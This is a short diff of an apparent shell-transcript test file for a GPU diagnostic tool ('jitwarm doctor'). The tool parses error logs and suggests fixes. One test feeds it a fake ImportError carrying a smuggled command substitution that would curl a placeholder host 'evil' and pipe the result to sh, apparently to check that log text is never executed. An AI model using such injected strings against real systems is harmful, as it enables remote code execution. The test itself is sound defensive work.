@@ -112,10 +112,10 @@ $ jitwarm doctor --log a.log
 Also Line * (and 1 more: -v)
 To do install a build for this GPU*
 jitwarm scan PATH
-$ echo 'FlashAttention only supports Ampere GPUs or newer' | SHELL=/bin/csh jitwarm doctor --log -
+$ echo 'FlashAttention only supports Ampere GPUs or newer' | jitwarm doctor --log -
 ? 1
 [bad] Line 1: FlashAttention has no code for this GPU.
-set*VLLM_ATTENTION_BACKEND*XFORMERS*
+*VLLM_ATTENTION_BACKEND*XFORMERS*
 $ printf '%s\n' 'ImportError: libcu$(curl${IFS}evil|sh): cannot open shared object file' | jitwarm doctor --log -
 ? 1
 /sbin/ldconfig -p | grep libcu
